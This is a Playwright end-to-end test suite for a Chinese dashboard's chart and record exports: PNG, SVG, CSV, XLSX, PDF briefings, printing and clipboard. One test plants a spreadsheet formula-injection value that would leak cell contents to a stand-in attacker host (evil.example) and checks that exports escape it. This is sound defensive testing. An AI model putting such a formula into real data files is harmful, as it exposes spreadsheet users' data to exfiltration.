import AxeBuilder from "@axe-core/playwright";
import { expect, test, type Download, type Locator, type Page } from "@playwright/test";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import Papa from "papaparse";
import { PDFDocument } from "pdf-lib";
import { readFileSync } from "node:fs";
import { readPdfPages } from "../lib/testing/pdf-reader";
import { decodePng, hasPngSignature, luminanceVariance } from "../lib/testing/png";

/**
 * Exports as an official gets them: every file captured from Chromium's download event and
 * opened the way a spreadsheet, image viewer or PDF reader would.
 *
 * "The chart" whose size a PNG doubles is the frame's exportable area: the chart frame laid out
 * without its controls (the export mechanism sets .export-capture while it measures, which
 * hides [data-export-ignore]). Its width is the frame's width on screen.
 */
const PUBLISHED_FUNDS = 17_940_000;

async function openMenu(frame: Locator) {
  await frame.getByTestId("export-menu-button").click();
  await expect(frame.getByTestId("export-menu")).toBeVisible();
}

async function exportFile(page: Page, frame: Locator, item: string): Promise<{ download: Download; bytes: Buffer }> {
  await openMenu(frame);
  const downloaded = page.waitForEvent("download");
  await frame.getByTestId(`export-${item}`).click();
  const download = await downloaded;
  return { download, bytes: readFileSync((await download.path())!) };
}

async function exportableBox(frame: Locator) {
  return frame.evaluate((el) => {
    el.classList.add("export-capture");
    const r = el.getBoundingClientRect();
    el.classList.remove("export-capture");
    return { width: Math.ceil(r.width), height: Math.ceil(r.height) };
  });
}

function parseCsv(bytes: Buffer) {
  const text = bytes.toString("utf8");
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return { text, parsed: Papa.parse<Record<string, string>>(text, { header: true, comments: "#", skipEmptyLines: true }) };
}

async function ready(page: Page, path: string) {
  await page.goto(path);
  // The trend's bars as the server drew them, or the interactive drawing once something asked for it.
  await expect(page.getByTestId("chart-funds-by-year").locator(".chart-static > svg, .recharts-wrapper > svg.recharts-surface").first()).toBeVisible();
  // Hydrated: the frame has registered for exports (the server's bars show before it has).
  await page.waitForFunction(() => window.duikouExport?.charts().includes("funds-by-year"));
}

test("the export menu is a keyboard menu button", async ({ page }) => {
  await ready(page, "/");
  const frame = page.getByTestId("chart-funds-by-year");
  const button = frame.getByTestId("export-menu-button");
  await expect(button).toHaveAttribute("aria-haspopup", "menu");
  await button.focus();
  await page.keyboard.press("Enter");
  const items = frame.getByRole("menuitem");
  await expect(items.first()).toBeFocused();
  await expect(button).toHaveAttribute("aria-expanded", "true");
  await page.keyboard.press("ArrowDown");
  await expect(items.nth(1)).toBeFocused();
  await page.keyboard.press("End");
  await expect(items.last()).toBeFocused();
  await page.keyboard.press("ArrowDown");
  await expect(items.first()).toBeFocused();
  expect((await new AxeBuilder({ page }).include('[data-testid="chart-funds-by-year"] .export-menu').analyze()).violations).toEqual([]);
  await page.keyboard.press("Escape");
  await expect(frame.getByTestId("export-menu")).toBeHidden();
  await expect(button).toBeFocused();
  await page.keyboard.press("ArrowUp");
  await expect(items.last()).toBeFocused();
});

test("PNG: twice the exportable area at 2×, 1× and 3× on request, not blank, named after chart and filter", async ({ page }) => {
  await ready(page, "/?district=500101&from=2013");
  const frame = page.getByTestId("chart-funds-by-district");
  const box = await exportableBox(frame);
  expect(box.width).toBe(Math.ceil((await frame.boundingBox())!.width));

  const { download, bytes } = await exportFile(page, frame, "png2");
  expect(download.suggestedFilename()).toBe("funds-by-district_500101_2013-2022.png");
  expect(hasPngSignature(bytes)).toBe(true);
  const png = decodePng(bytes);
  expect([png.width, png.height]).toEqual([box.width * 2, box.height * 2]);
  expect(luminanceVariance(png)).toBeGreaterThan(200);
  await expect(frame.getByTestId("export-status")).toContainText("已下载 funds-by-district_500101_2013-2022.png");

  for (const ratio of [1, 3]) {
    const file = await exportFile(page, frame, `png${ratio}`);
    expect(file.download.suggestedFilename()).toBe(`funds-by-district_500101_2013-2022_${ratio}x.png`);
    const scaled = decodePng(file.bytes);
    expect([scaled.width, scaled.height]).toEqual([box.width * ratio, box.height * ratio]);
  }
});

test("SVG: self-describing, with the filters, unit, source, as-of date, demo label and the font inside", async ({ page }) => {
  await ready(page, "/?district=500101&from=2013");
  const { download, bytes } = await exportFile(page, page.getByTestId("chart-funds-by-year"), "svg");
  expect(download.suggestedFilename()).toBe("funds-by-year_500101_2013-2022.svg");
  const svg = bytes.toString("utf8");
  expect(svg).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
  expect(svg).toContain("<title>引入资金年度变化</title>");
  expect(svg).toContain(">区县：万州区；年份：2013–2022</text>");
  expect(svg).toContain(">单位：亿元</text>");
  expect(svg).toMatch(/>来源：[^<]+<\/text>/);
  expect(svg).toContain("数据截至 2022-12-31");
  expect(svg).toContain(">示例数据</text>");
  expect(svg).toContain(">含示例数据：");
  expect(svg).toMatch(/@font-face\{font-family:'Duikou Export Sans';font-weight:400;font-style:normal;src:url\(data:font\/ttf;base64,[A-Za-z0-9+/=]{2000,}\)/);
  expect(svg).not.toContain("导出"); // the controls are not part of the image
});

test("CSV and XLSX: the chart's data, typed, with notes, summing to the KPI", async ({ page }) => {
  await ready(page, "/");
  const kpi = Number(await page.getByTestId("kpi-funds").getAttribute("data-value"));
  expect(kpi).toBe(PUBLISHED_FUNDS);
  const frame = page.getByTestId("chart-funds-by-district");

  const csv = await exportFile(page, frame, "csv");
  expect(csv.download.suggestedFilename()).toBe("funds-by-district_all_1992-2022.csv");
  const { text, parsed } = parseCsv(csv.bytes);
  expect(parsed.errors).toEqual([]);
  expect(text).toContain("#筛选条件,全库区；年份：1992–2022\r\n");
  expect(text).toContain("#示例数据,");
  expect(parsed.data).toHaveLength(14);
  const sum = parsed.data.reduce((a, row) => a + Number(row["合计（亿元）"]), 0);
  expect(Math.round(sum * 10_000)).toBe(kpi);

  const xlsx = await exportFile(page, frame, "xlsx");
  expect(xlsx.download.suggestedFilename()).toBe("funds-by-district_all_1992-2022.xlsx");
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Uint8Array.from(xlsx.bytes).buffer);
  const data = workbook.getWorksheet("数据")!;
  expect(data.rowCount).toBe(15);
  const values = Array.from({ length: 14 }, (_, i) => data.getRow(i + 2).getCell(4).value);
  expect(values.every((v) => typeof v === "number")).toBe(true);
  expect(Math.round((values as number[]).reduce((a, b) => a + b, 0) * 10_000)).toBe(kpi);
  const notes = workbook.getWorksheet("说明")!;
  const labels = Array.from({ length: notes.rowCount }, (_, i) => notes.getRow(i + 1).getCell(1).value);
  expect(labels).toEqual(expect.arrayContaining(["标题", "筛选条件", "单位", "来源", "数据截至", "示例数据"]));
});

test("copies the chart image to the clipboard", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-write"]);
  // The site's Permissions-Policy lets pages write to the clipboard, never read it: record what is written.
  await page.addInitScript(() => {
    const written: string[] = [];
    (window as unknown as { clipboardTypes: string[] }).clipboardTypes = written;
    const write = navigator.clipboard.write.bind(navigator.clipboard);
    navigator.clipboard.write = async (items) => {
      for (const item of items) written.push(...item.types);
      return write(items);
    };
  });
  await ready(page, "/");
  const frame = page.getByTestId("chart-funds-by-year");
  await openMenu(frame);
  await frame.getByTestId("export-copy").click();
  await expect(frame.getByTestId("export-status")).toContainText("图片已复制到剪贴板");
  const types = await page.evaluate(() => (window as unknown as { clipboardTypes: string[] }).clipboardTypes);
  expect(types).toContain("image/png");

  // A browser without ClipboardItem (or a plain-HTTP intranet address) gets told, not a silent failure.
  await page.evaluate(() => Reflect.deleteProperty(window, "ClipboardItem"));
  await openMenu(frame);
  await frame.getByTestId("export-copy").click();
  await expect(frame.getByTestId("export-status")).toContainText("此浏览器不允许网页向剪贴板写入图片");
});

test("image exports wait for the chart; the data exports still work from the table view", async ({ page }) => {
  await ready(page, "/");
  const frame = page.getByTestId("chart-funds-by-year");
  await frame.getByTestId("toggle-table").click();
  await openMenu(frame);
  await expect(frame.getByTestId("export-png2")).toHaveAttribute("aria-disabled", "true");
  await expect(frame.getByTestId("export-menu").locator("..")).toContainText("不能导出图片");
  await page.keyboard.press("Escape");
  const csv = await exportFile(page, frame, "csv");
  // 31 years, and the three multi-year totals (1992–2015, –2019, –2022) in rows of their own.
  expect(parseCsv(csv.bytes).parsed.data).toHaveLength(34);
});

test("a chart not yet drawn (far below the first screen) is drawn for its image export", async ({ page }) => {
  await page.setViewportSize({ width: 412, height: 823 });
  await page.goto("/");
  // The page has hydrated the frame (the server's bars show before it does).
  await page.waitForFunction(() => window.duikouExport?.charts().includes("funds-by-supporter"));
  const frame = page.getByTestId("chart-funds-by-supporter");
  // Bars show the server's drawing until a reader points at them; the interactive one is drawn for the export.
  await expect(frame.locator(".chart-static")).toHaveCount(1);
  await expect(frame.locator(".recharts-wrapper > svg.recharts-surface")).toHaveCount(0);
  const png = await page.evaluate(() => window.duikouExport!.chartPng("funds-by-supporter", 1));
  expect(png.width).toBeGreaterThan(300);
  await expect(frame.locator(".recharts-wrapper > svg.recharts-surface")).toHaveCount(1);
  await expect(frame.locator(".chart-static")).toHaveCount(0);
});

test("Ctrl+P draws the charts not yet drawn, then prints; printed from the menu before, a placeholder says why it is empty", async ({ page }) => {
  await page.addInitScript(() => {
    (window as unknown as { printed: number }).printed = 0;
    window.print = () => void (window as unknown as { printed: number }).printed++;
  });
  // Compare's line charts are drawn on approach; on a phone the last one is screens away, even in the print layout.
  await page.setViewportSize({ width: 412, height: 823 });
  await page.goto("/compare?district=500101,500102,500233");
  const frame = page.getByTestId("chart-compare-cadres");
  await expect(frame.locator(".chart-reserved")).toHaveCount(1);
  // Print media before anything drew it (the browser's own menu): the note, in the page's language, not an empty box.
  await page.emulateMedia({ media: "print" });
  const note = await frame.locator(".chart-reserved").evaluate((el) => getComputedStyle(el, "::after").content);
  expect(note).toBe('"此图尚未绘制，未能打印。请用本页的“打印”按钮或 Ctrl+P（⌘P）打印。"');
  await page.emulateMedia({ media: "screen" });

  // Hydrated (the waiting charts have registered), as a reader's Ctrl+P finds the page.
  await page.waitForLoadState("networkidle");
  await page.keyboard.press("Control+p");
  await expect(frame.locator(".recharts-wrapper > svg.recharts-surface")).toHaveCount(1);
  await expect(page.locator(".chart-reserved")).toHaveCount(0);
  await expect.poll(() => page.evaluate(() => (window as unknown as { printed: number }).printed)).toBe(1);
});

test("bars and published points print as the server drew them, even from the browser's menu", async ({ page }) => {
  await page.setViewportSize({ width: 412, height: 823 });
  await page.goto("/");
  await page.emulateMedia({ media: "print" });
  for (const drawing of await page.locator(".chart-static > svg").all()) {
    const box = (await drawing.boundingBox())!;
    expect(box.width).toBeGreaterThan(300);
    expect(box.height).toBeGreaterThan(100);
  }
  // The trend's bars, its published points, the two rankings.
  await expect(page.locator(".chart-static > svg")).toHaveCount(4);
  await expect(page.locator(".chart-reserved")).toHaveCount(0);
});

test("briefing PDF: intro, one page per chart, sources; the ZIP holds every chart as PNG and CSV", async ({ page }) => {
  await ready(page, "/?district=500101");
  const charts = await page.locator("[data-chart-name]").evaluateAll((els) => els.map((el) => el.getAttribute("data-chart-name")!));
  // Every chart on the page, whoever drew it (the river map comes from the explore pages; the progress panel, a page of its own, from /progress).
  expect(charts).toEqual(["funds-by-year", "progress-overview", "funds-river-map", "funds-by-district", "funds-by-supporter"]);

  const pdfDownload = page.waitForEvent("download");
  await page.getByTestId("briefing-pdf").click();
  await expect(page.getByTestId("briefing-status")).toContainText("正在生成");
  const pdfFile = await pdfDownload;
  expect(pdfFile.suggestedFilename()).toBe("briefing_500101_1992-2022.pdf");
  const pdfBytes = readFileSync((await pdfFile.path())!);
  // E2E_KEEP_EXPORTS=dir keeps the file to look at (e.g. pdftoppm -png).
  if (process.env.E2E_KEEP_EXPORTS) await pdfFile.saveAs(`${process.env.E2E_KEEP_EXPORTS}/${pdfFile.suggestedFilename()}`);
  const pdf = await PDFDocument.load(pdfBytes);
  expect(pdf.getPageCount()).toBe(1 + charts.length + 1);
  // Read as a viewer reads it (pdf.js): each chart's page holds, as text, the chart's title and
  // every label its SVG shows (axis ticks, district and supporter names), in tagged font subsets.
  const pdfPages = await readPdfPages(new Uint8Array(pdfBytes));
  const squeeze = (text: string) => text.replace(/\s+/g, "");
  for (const [i, name] of charts.entries()) {
    const frame = page.getByTestId(`chart-${name}`);
    const title = await frame.locator(".chart-frame__title").evaluate((h) => h.firstChild?.textContent ?? "");
    const labels = await frame.locator("[data-testid=chart-drawing] svg text").evaluateAll((els) =>
      els.filter((el) => el.getBoundingClientRect().width > 0 && el.closest("[data-export-ignore]") === null).map((el) => el.textContent ?? ""),
    );
    expect(labels.length, name).toBeGreaterThan(0);
    const text = squeeze(pdfPages[1 + i]!.text);
    expect(text, name).toContain(squeeze(title));
    for (const label of labels.filter((l) => l.trim())) expect(text, `${name}: ${label}`).toContain(squeeze(label));
  }
  expect(squeeze(pdfPages.map((p) => p.text).join(""))).toContain("万州区");
  const fonts = new Set(pdfPages.flatMap((p) => p.fonts));
  // Two tagged subsets (ABCDEF+Name), one per weight.
  expect([...fonts].every((f) => /^[A-Z]{6}\+NotoSansSC-(Regular|Bold)$/.test(f)), [...fonts].join()).toBe(true);
  expect([...fonts].map((f) => f.slice(7)).sort()).toEqual(["NotoSansSC-Bold", "NotoSansSC-Regular"]);
  expect(pdf.getTitle()).toBe("对口支援三峡库区数据看板 · 简报");
  expect(pdf.getSubject()).toBe("区县：万州区；年份：1992–2022");
  await expect(page.getByTestId("briefing-status")).toContainText(`已下载 briefing_500101_1992-2022.pdf（${1 + charts.length + 1} 页）`);

  const zipDownload = page.waitForEvent("download");
  await page.getByTestId("briefing-zip").click();
  const zipFile = await zipDownload;
  expect(zipFile.suggestedFilename()).toBe("charts_500101_1992-2022.zip");
  const zip = await JSZip.loadAsync(readFileSync((await zipFile.path())!));
  const names = Object.keys(zip.files).sort();
  expect(names).toEqual(charts.flatMap((c) => [`${c}_500101_1992-2022.csv`, `${c}_500101_1992-2022.png`]).sort());
  const png = await zip.file("funds-by-year_500101_1992-2022.png")!.async("uint8array");
  expect(decodePng(png).width).toBe((await exportableBox(page.getByTestId("chart-funds-by-year"))).width * 2);
});

test("a failed briefing says what failed and leaves the page working", async ({ page }) => {
  // Failing from the start, so the page's idle prefetch of the fonts fails too.
  await page.route("**/api/export/font**", (route) => route.fulfill({ status: 503, contentType: "application/json", body: JSON.stringify({ issues: [{ message: "字体服务暂不可用" }] }) }));
  await ready(page, "/");
  await page.getByTestId("briefing-pdf").click();
  const status = page.getByTestId("briefing-status");
  // The briefing fetches its fonts once, for every chart (drawn as vectors with real text).
  await expect(status).toContainText("生成失败：无法取得导出所用字体（字体服务暂不可用）");
  await expect(page.getByTestId("briefing-pdf")).toBeEnabled();
  await page.unroute("**/api/export/font**");
  const { bytes } = await exportFile(page, page.getByTestId("chart-funds-by-year"), "png2");
  expect(hasPngSignature(bytes)).toBe(true);
  await page.getByTestId("trend-metric").selectOption("projects");
  await expect(page.getByTestId("chart-projects-by-year")).toBeVisible();
});

test("printing gives a clean A4 page: no controls, the filters in words", async ({ page }) => {
  await ready(page, "/?district=500101");
  // Charts are drawn as they come near the viewport: scroll through the page, as a reader would before printing.
  for (const area of await page.locator(".chart-frame__chart").all()) {
    await area.scrollIntoViewIfNeeded();
    await expect(area.locator("svg").first()).toBeVisible();
  }
  await page.emulateMedia({ media: "print" });
  await expect(page.getByTestId("export-menu-button").first()).toBeHidden();
  await expect(page.getByTestId("briefing-pdf")).toBeHidden();
  await expect(page.locator(".filter-bar")).toBeHidden();
  await expect(page.locator(".print-caption")).toBeVisible();
  await expect(page.locator(".print-caption")).toContainText("区县：万州区；年份：1992–2022");
  // Paper is narrower than the screen and no script runs while printing: the charts must follow CSS alone.
  // Narrow each chart area synchronously (before any ResizeObserver could re-render) and measure.
  const fits = await page.locator(".chart-frame__chart").evaluateAll((areas) =>
    areas.map((area) => {
      (area as HTMLElement).style.width = "480px";
      const svg = (area.querySelector(".recharts-wrapper > svg.recharts-surface") ?? area.querySelector("svg"))!.getBoundingClientRect();
      (area as HTMLElement).style.width = "";
      return svg.width > 0 && svg.width <= 480 && svg.height > 0;
    }),
  );
  // Every chart area on the page (five of them) fits the paper.
  expect(fits).toEqual([true, true, true, true, true]);
  expect((await page.pdf({ format: "A4", preferCSSPageSize: true })).byteLength).toBeGreaterThan(10_000);
});

test("record exports: every record under the filters, streamed as CSV or XLSX; bad parameters are a 400", async ({ page, request }) => {
  await ready(page, "/?district=500101&from=2013");
  const kpi = Number(await page.getByTestId("kpi-funds").getAttribute("data-value"));
  const downloaded = page.waitForEvent("download");
  await page.getByTestId("record-export-csv").click();
  const download = await downloaded;
  expect(download.suggestedFilename()).toBe("funds-records_500101_2013-2022.csv");
  const { text, parsed } = parseCsv(readFileSync((await download.path())!));
  expect(parsed.errors).toEqual([]);
  expect(text).toContain("#筛选条件,区县：万州区；年份：2013–2022\r\n");
  expect(parsed.data.length).toBeGreaterThan(10); // all of them, not the top 10 on the page
  expect(parsed.data.every((r) => r["受援区县"] === "万州区" && Number(r["年份"]) >= 2013)).toBe(true);
  expect(parsed.data.reduce((a, r) => a + Number(r["引入资金（万元）"]), 0)).toBe(kpi);
  expect(text).toContain(`#记录数,${parsed.data.length}\r\n`);

  const xlsx = await request.get("/api/records/export?metric=funds&format=xlsx&district=500101&from=2013");
  expect(xlsx.status()).toBe(200);
  expect(xlsx.headers()["content-disposition"]).toContain("funds-records_500101_2013-2022.xlsx");
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Uint8Array.from(await xlsx.body()).buffer);
  expect(workbook.getWorksheet("数据")!.rowCount).toBe(parsed.data.length + 1);
  expect(workbook.getWorksheet("说明")!.getCell("B1").value).toBe("引入资金记录");

  for (const bad of ["metric=gdp", "metric=funds&format=pdf", "metric=funds&district=999999", `metric=funds&q=${"x".repeat(200)}`, "format=csv", "metric=trained&sector=citrus"]) {
    const response = await request.get(`/api/records/export?${bad}`);
    expect(response.status(), bad).toBe(400);
    expect((await response.json()).issues.length, bad).toBeGreaterThan(0);
  }
});

test("a record crafted as a spreadsheet formula comes out as text", async ({ request }) => {
  // A real record in the test server's own database (scripts/e2e-server.sh), removed afterwards.
  const { default: Database } = await import("better-sqlite3");
  const db = new Database(process.env.E2E_DATABASE_PATH ?? "test-results/e2e.db");
  const crafted = '=HYPERLINK("http://evil.example/?leak="&A1,"DUIKOU-CRAFTED")';
  const source = (db.prepare("select id from sources limit 1").get() as { id: string }).id;
  const { lastInsertRowid } = db
    .prepare("insert into fund_records (year, supporter_code, district_code, amount_wan, kind, is_demo, source_id, note) values (1995, '310000', '500101', 1, 'free_aid', 0, ?, ?)")
    .run(source, crafted);
  try {
    const csv = await request.get("/api/records/export?metric=funds&format=csv&q=DUIKOU-CRAFTED");
    expect(csv.status()).toBe(200);
    const rows = Papa.parse<Record<string, string>>((await csv.text()).replace(/^\uFEFF/, ""), { header: true, comments: "#", skipEmptyLines: true }).data;
    expect(rows).toHaveLength(1);
    expect(rows[0]!["备注"]).toBe(`'${crafted}`);

    const xlsx = await request.get("/api/records/export?metric=funds&format=xlsx&q=DUIKOU-CRAFTED");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(await xlsx.body()).buffer);
    const sheet = workbook.getWorksheet("数据")!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = sheet.getRow(2).getCell(header.indexOf("备注") + 1);
    expect(cell.value).toBe(`'${crafted}`);
    expect(cell.formula).toBeUndefined();
  } finally {
    db.prepare("delete from fund_records where id = ?").run(lastInsertRowid);
    db.close();
  }
});

test("in English the exports speak English and keep the same file names", async ({ page, context, baseURL }) => {
  await context.addCookies([{ name: "NEXT_LOCALE", value: "en", url: baseURL! }]);
  await ready(page, "/?district=500101");
  const frame = page.getByTestId("chart-funds-by-year");
  await expect(frame.getByTestId("export-menu-button")).toHaveAccessibleName(/^Export “/);
  const { download, bytes } = await exportFile(page, frame, "csv");
  expect(download.suggestedFilename()).toBe("funds-by-year_500101_1992-2022.csv");
  const { text, parsed } = parseCsv(bytes);
  expect(text).toContain("#Filters,Districts: Wanzhou District; Years: 1992–2022\r\n");
  expect(text).toContain("#Unit,100m yuan\r\n");
  expect(parsed.meta.fields?.[0]).toBe("Year");
  const svg = (await exportFile(page, frame, "svg")).bytes.toString("utf8");
  expect(svg).toContain(">Districts: Wanzhou District; Years: 1992–2022</text>");
});

test("the font route answers subsets, and 400 with reasons to bad requests", async ({ request }) => {
  const ok = await request.post("/api/export/font", { data: { weight: 700, text: "引入资金" } });
  expect(ok.status()).toBe(200);
  expect(ok.headers()["content-type"]).toBe("font/ttf");
  const font = await ok.body();
  expect(font.readUInt32BE(0)).toBe(0x00010000);
  expect(font.byteLength).toBeLessThan(20_000);
  const bad = await request.post("/api/export/font", { data: { weight: 500, text: "" } });
  expect(bad.status()).toBe(400);
  expect((await bad.json()).issues.map((i: { param: string }) => i.param).sort()).toEqual(["text", "weight"]);
  // text/plain needs no preflight, so any site could send it from a visitor's browser: refused as a type.
  expect((await request.post("/api/export/font", { data: "not json", headers: { "content-type": "text/plain" } })).status()).toBe(415);
});
